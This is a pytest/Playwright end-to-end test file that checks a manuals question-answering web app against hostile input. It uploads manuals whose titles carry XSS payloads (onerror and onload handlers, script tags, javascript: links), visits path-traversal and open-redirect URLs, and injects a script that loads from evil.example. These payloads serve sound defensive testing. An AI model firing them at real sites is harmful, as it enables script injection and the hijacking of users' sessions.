"""Crafted links and hostile names in a real browser: no script of theirs runs, and nothing is done in the agent's name."""

from __future__ import annotations

import itertools
from collections.abc import Iterator

import httpx
import pytest
from playwright.sync_api import expect

from tests.e2e.conftest import OpenPage
from tests.support.serving import Site, client_of, running_site, upload, wait_until_read

RUN = "window.ran=(window.ran||0)+1"
TAGS = [
    f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>", f"<script>{RUN}</script>", f"<iframe srcdoc='<script>top.{RUN}</script>'>",
    f"<a href=javascript:{RUN}>x</a>", f"<details open ontoggle={RUN}>", f"<style onload={RUN}></style>",
    f"<input autofocus onfocus={RUN}>", f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    "<form action=https://evil.example><button>Go</button></form>",
]  # fmt: skip
PLACES = [
    "Valve {} X300", "{}", '"{}', "'{}", "--><!-- {}", "</title>{}", "</textarea>{}", "`${{alert(1)}}` {}", "{{{{constructor}}}} {}",
    "&lt;b&gt; {}",
]  # fmt: skip
NAMES = [place.format(tag) for place, tag in itertools.product(PLACES, TAGS)]
TARGETS = ["status", "manuals/state", "start", "conversations", "tandem/x/tandem.js"]
ADDRESSES = [
    f"/?c={dots}{target}"
    for dots, target in itertools.product(
        ("..%2F", "..%5C", "%2e%2e/", "..%252F", "....//", "%2F%2Fevil.example%2F"), TARGETS
    )
]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """A server with a hundred manuals whose titles would run a script."""
    with running_site(tmp_path_factory.mktemp("links") / "data") as site:
        with client_of(site) as client:
            for i, name in enumerate(NAMES):
                upload(
                    client,
                    f"m{i}.md",
                    f"# {name}\n\n## Care {i}\n\nClean part {i} every {i + 2} days.\n".encode(),
                )
            wait_until_read(client)
            manuals = client.get("/manuals/state").json()["table"]
            assert manuals.count("<tr data-id") >= 90, (
                "the manuals with hostile names are not there"
            )
        yield site


def test_a_hundred_hostile_names_and_thirty_links_run_nothing(
    hostile: Site, open_page: OpenPage
) -> None:
    assert len(NAMES) >= 100 and len(ADDRESSES) >= 20
    page = open_page(hostile.url)
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    for address in ADDRESSES:
        page.goto(hostile.url + address)
        page.wait_for_selector("#t-app")
        expect(page.locator(".t-start, .t-turn").first).to_be_visible()
        assert page.evaluate("window.ran || 0") == 0, address
        assert (
            page.locator("#t-turns :is(iframe, script, style, [onerror], [onload])").count() == 0
        ), address
    page.goto(hostile.url + "/admin/")
    expect(page.locator("#t-list tbody tr").first).to_be_visible()
    page.wait_for_timeout(500)
    assert page.evaluate("window.ran || 0") == 0
    assert [url for url in asked if not url.startswith((hostile.url, "data:", "blob:"))] == []
    with client_of(hostile) as client:
        assert client.get("/manuals/state").json()["table"].count("<tr data-id") >= 90, (
            "a link removed a manual"
        )


def test_hostile_names_are_shown_as_text_in_an_answer(hostile: Site, open_page: OpenPage) -> None:
    page = open_page(hostile.url)
    page.locator("#t-question").fill("How often is part 3 cleaned?")
    page.locator("#t-question").press("Enter")
    page.wait_for_selector(".t-send.stop", state="hidden")
    page.wait_for_selector(".t-turn .t-answer > :not(.busy)")
    assert page.evaluate("window.ran || 0") == 0
    assert page.locator("#t-turns :is(iframe, script, style, form)").count() == 0


@pytest.mark.parametrize("path", ["/", "/admin/", "/check/"])
def test_a_hole_in_the_escaping_would_run_nothing(
    site: Site, open_page: OpenPage, path: str
) -> None:
    """Whatever HTML reaches a sink, our own or the browser's, its scripts do not run: the policy holds by itself."""
    page = open_page(site.url, path=path)
    tried = page.evaluate(
        """(tags) => {
            const done = [];
            const attempt = (what) => { try { what(); } catch (error) { done.push(error.name); } };
            for (const tag of tags) {
                const place = document.createElement("div");
                document.body.append(place);
                window.tandem.fill(place, tag);
                done.push(place.querySelectorAll("script, iframe, form").length + place.innerHTML.split(/ on[a-z]+=/).length - 1);
                attempt(() => { place.innerHTML = tag; });
                attempt(() => document.body.insertAdjacentHTML("beforeend", tag));
            }
            attempt(() => { const s = document.createElement("script"); s.src = "https://evil.example/x.js"; document.head.append(s); });
            attempt(() => document.body.setAttribute("onclick", "window.ran=1"));
            document.body.click();
            return done;
        }""",
        TAGS,
    )
    page.wait_for_timeout(300)
    assert page.evaluate("window.ran || 0") == 0
    assert not [n for n in tried if isinstance(n, int) and n]


def test_an_inline_script_that_the_page_does_not_hold_is_refused(site: Site) -> None:
    """The policy names the page's scripts one by one, and they are those of the page."""
    with httpx.Client(base_url=site.url) as client:
        reply = client.get("/")
    policy = reply.headers["content-security-policy"]
    script = next(rule for rule in policy.split("; ") if rule.startswith("script-src "))
    assert "'unsafe-inline'" not in script
    assert "require-trusted-types-for 'script'" in policy
    assert script.count("'sha256-") >= 3


def test_only_ids_made_here_become_conversations(site: Site) -> None:
    """A browser that makes up an id gets another one, and sees nobody's turns under the one it wanted."""
    from tests.support.serving import ask

    def answered(client: httpx.Client, text: str, conversation: str = "") -> str:
        return str(ask(client, text, conversation=conversation)[0][0]["data"][0]["conversation"])  # type: ignore[index]

    with client_of(site) as mine, client_of(site) as other:
        first = answered(mine, "How do I replace the seal?")
        assert answered(mine, "And then?", first) == first
        stolen, chosen = (
            answered(other, "How do I clean the blades?", wish) for wish in (first, "chosen-by-me")
        )
        assert stolen != first and chosen != "chosen-by-me"
        assert other.get(f"/conversations/{first}").status_code == 404
        assert mine.get(f"/conversations/{first}").text.count("<article") == 2
